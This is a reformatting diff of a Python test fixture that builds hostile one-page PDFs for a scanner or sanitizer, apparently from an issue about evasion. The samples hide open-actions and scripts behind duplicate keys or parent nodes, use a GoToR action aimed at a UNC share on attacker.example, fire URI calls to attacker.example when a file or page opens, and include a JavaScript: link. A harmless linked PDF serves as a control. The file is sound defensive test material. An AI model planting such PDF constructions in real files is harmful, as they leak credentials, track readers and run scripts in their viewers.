@@ -69,33 +69,64 @@ def hostile_pdfs():
     """The attack files of issue 33 (2), each a one-page PDF that runs or fetches something when opened
     in a viewer, though a reader taking the first of two keys, or not climbing to parents, sees none."""
     return {
-        "duplicate-open-action": raw_pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /OpenAction 4 0 R >>",
-                                         PAGES, PAGE.format(extra=""), SCRIPT),
-        "duplicate-page-aa": raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES,
-                                     PAGE.format(extra=" /AA << >> /AA << /O 4 0 R >>"), SCRIPT),
+        "duplicate-open-action": raw_pdf(
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /OpenAction 4 0 R >>",
+            PAGES,
+            PAGE.format(extra=""),
+            SCRIPT,
+        ),
+        "duplicate-page-aa": raw_pdf(
+            "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE.format(extra=" /AA << >> /AA << /O 4 0 R >>"), SCRIPT
+        ),
         "aa-on-a-parent-outside-the-tree": raw_pdf(
-            "<< /Type /Catalog /Pages 2 0 R >>", PAGES, "<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] >>",
-            SCRIPT, "<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O 4 0 R >> >>"),
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            "<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] >>",
+            SCRIPT,
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O 4 0 R >> >>",
+        ),
         "script-on-a-widgets-parent-field": raw_pdf(
-            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>", PAGES,
-            PAGE.format(extra=" /Annots [5 0 R]"), SCRIPT,
+            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>",
+            PAGES,
+            PAGE.format(extra=" /Annots [5 0 R]"),
+            SCRIPT,
             "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /Parent 6 0 R >>",
-            "<< /FT /Tx /T (x) /AA << /K 4 0 R >> >>"),
-        "gotor-unc": raw_pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR "
-                             "/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>", PAGES, PAGE.format(extra="")),
-        "uri-on-open": raw_pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://attacker.example/o) >> >>",
-                               PAGES, PAGE.format(extra="")),
-        "uri-on-page-open": raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES,
-                                    PAGE.format(extra=" /AA << /O << /S /URI /URI (http://attacker.example/p) >> >>")),
+            "<< /FT /Tx /T (x) /AA << /K 4 0 R >> >>",
+        ),
+        "gotor-unc": raw_pdf(
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR "
+            "/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
+            PAGES,
+            PAGE.format(extra=""),
+        ),
+        "uri-on-open": raw_pdf(
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://attacker.example/o) >> >>",
+            PAGES,
+            PAGE.format(extra=""),
+        ),
+        "uri-on-page-open": raw_pdf(
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            PAGE.format(extra=" /AA << /O << /S /URI /URI (http://attacker.example/p) >> >>"),
+        ),
         "javascript-link": raw_pdf(
-            "<< /Type /Catalog /Pages 2 0 R >>", PAGES,
-            PAGE.format(extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
-                              "/A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]")),
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            PAGE.format(
+                extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
+                "/A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]"
+            ),
+        ),
     }
 
 
 def linked_pdf():
     """A harmless PDF with an ordinary web link, as many printed-to-PDF documents have."""
-    return raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES,
-                   PAGE.format(extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
-                                     "/A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>]"))
+    return raw_pdf(
+        "<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        PAGE.format(
+            extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
+            "/A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>]"
+        ),
+    )
